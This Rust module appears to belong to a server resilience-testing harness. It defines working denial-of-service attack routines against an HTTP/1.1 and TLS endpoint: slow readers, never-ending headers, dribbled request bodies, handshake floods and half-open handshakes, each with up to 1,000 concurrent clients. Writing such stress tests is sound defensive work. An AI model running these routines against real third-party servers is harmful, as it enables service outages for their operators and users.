//! Attacks over HTTP/1.1, and on TLS itself.

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::{Result, bail};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

use super::attacker::{Attack, Attacker, tls, tls_over};

pub(super) fn attacks() -> Vec<Attack> {
    let attack = Attack::over_tcp;
    vec![
        attack(
            "http1-slow-readers",
            "1,000 clients that ask for 100 MB and read a KiB a second",
            1000,
            |address| -> Attacker { Box::pin(slow_reader(address)) },
        ),
        attack(
            "http1-slow-headers",
            "1,000 clients whose header sections never end",
            1000,
            |address| {
                Box::pin(dribble(
                    address,
                    "GET / HTTP/1.1\r\nHost: localhost\r\n",
                    "a: b\r\n",
                ))
            },
        ),
        attack(
            "http1-slow-bodies",
            "1,000 clients that send a body byte by byte",
            1000,
            |address| {
                let head = "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n";
                Box::pin(dribble(address, head, "x"))
            },
        ),
        attack(
            "tls-handshakes",
            "32 clients that only shake hands",
            32,
            |address| {
                Box::pin(async move {
                    loop {
                        tls(address, "http/1.1").await?;
                    }
                })
            },
        ),
        attack(
            "tls-half-handshakes",
            "1,000 clients that stop after the first bytes of a handshake",
            1000,
            |address| {
                Box::pin(async move {
                    let mut tcp = TcpStream::connect(address).await?;
                    tcp.write_all(&[22, 3, 1, 2, 0, 1, 0]).await?;
                    tcp.read_to_end(&mut Vec::new()).await?;
                    Ok(())
                })
            },
        ),
    ]
}

async fn slow_reader(address: SocketAddr) -> Result<()> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(4096)?;
    let tcp = socket.connect(address).await?;
    let mut tls = tls_over(tcp, "http/1.1").await?;
    tls.write_all(b"GET /large.bin HTTP/1.1\r\nHost: localhost\r\n\r\n")
        .await?;
    let mut buffer = [0; 1024];
    loop {
        if tls.read(&mut buffer).await? == 0 {
            bail!("ended");
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
}

/// Sends `head` and then `more`, again and again.
async fn dribble(address: SocketAddr, head: &'static str, more: &'static str) -> Result<()> {
    let (mut read, mut write) = tokio::io::split(tls(address, "http/1.1").await?);
    write.write_all(head.as_bytes()).await?;
    let writing = async {
        loop {
            tokio::time::sleep(Duration::from_secs(1)).await;
            if write.write_all(more.as_bytes()).await.is_err() {
                return;
            }
        }
    };
    let mut answer = Vec::new();
    tokio::select! {
        () = writing => {}
        _ = read.read_to_end(&mut answer) => {}
    }
    Ok(())
}
